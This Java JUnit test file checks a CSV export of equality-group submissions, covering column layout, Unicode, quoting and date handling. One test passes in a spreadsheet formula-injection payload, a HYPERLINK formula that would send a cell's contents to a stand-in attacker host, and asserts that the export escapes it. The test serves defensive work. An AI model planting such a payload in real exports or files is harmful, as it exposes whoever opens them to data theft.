package org.themebot.goodpractice;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.List;
import java.util.Optional;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.themebot.groups.ThemeGroup;
import org.themebot.people.Names;

class SubmissionsCsvTest {

    private static final ThemeGroup GROUP = new ThemeGroup(1, "T1", "C1", "E&CC Theme Group", ZoneId.of("Europe/London"),
            List.of("UCHAIR"), List.of(), Instant.EPOCH);
    private static final Names NAMES = id -> id.equals("U0SUE") ? "Sue Bent" : id;

    @Test
    void oneRowPerSubmissionWithAColumnPerStrandSoCoverageAddsUp() throws IOException {
        // submitted at 23:30 UTC on 8 October: already the 9th in London
        Submission unicode = new Submission(1, 1, 1, "Café für Älle — 多様性 🌍", "Mentoring, \"peer\" support\nweekly",
                "https://example.org/a?x=1&y=2", List.of("race", "age"), Optional.of("Fairness"), "U0SUE",
                Optional.empty(), SubmissionStatus.DISCUSSED, Optional.of(7L), Instant.parse("2008-10-08T23:30:00Z"));
        Submission older = new Submission(2, 1, 2, "Welcome pack", "", "", List.of("new arrivals", "race"),
                Optional.empty(), "U0SUE", Optional.of("Cllr Kevin Foster"), SubmissionStatus.TABLED, Optional.empty(),
                Instant.parse("2008-10-10T09:00:00Z"));
        var export = new GoodPracticeService.Export(GROUP, List.of(unicode, older), Strands.statutory(),
                LocalDate.of(2008, 10, 22));

        String text = new String(SubmissionsCsv.render(export, NAMES), StandardCharsets.UTF_8);

        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(text.substring(1)))) {
            assertThat(parser.getHeaderNames()).containsExactly("ref", "title", "description", "link", "submitted_by",
                    "submitted_on", "status", "principle", "race", "disability", "gender", "age", "religion or belief",
                    "sexual orientation", "new arrivals");
            List<CSVRecord> rows = parser.getRecords();
            assertThat(rows.get(0).toList()).containsExactly("G1", "Café für Älle — 多様性 🌍",
                    "Mentoring, \"peer\" support\nweekly", "https://example.org/a?x=1&y=2", "Sue Bent", "2008-10-09",
                    "discussed", "Fairness", "1", "", "", "1", "", "", "");
            assertThat(rows.get(1).toList()).containsExactly("G2", "Welcome pack", "", "", "Cllr Kevin Foster",
                    "2008-10-10", "tabled", "", "1", "", "", "", "", "", "1");
        }
        assertThat(text).startsWith("\uFEFFref,title,").contains("\r\n");
    }

    @Test
    void noTypedCellIsReadAsAFormula() throws IOException {
        Submission hostile = new Submission(3, 1, 3, "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"toolkit\")", "+44 24 7683",
                "@import", List.of("race"), Optional.of("-fairness"), "U0SUE", Optional.of("\tCllr"),
                SubmissionStatus.TABLED, Optional.empty(), Instant.parse("2008-10-10T09:00:00Z"));
        var export = new GoodPracticeService.Export(GROUP, List.of(hostile), Strands.statutory(), LocalDate.of(2008, 10, 22));

        String text = new String(SubmissionsCsv.render(export, NAMES), StandardCharsets.UTF_8);

        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(text.substring(1)))) {
            assertThat(parser.getRecords().get(0).toList()).startsWith("G3",
                    "'=HYPERLINK(\"http://evil.example/?x=\"&B2,\"toolkit\")", "'+44 24 7683", "'@import", "'\tCllr",
                    "2008-10-10", "tabled", "'-fairness", "1");
        }
    }
}
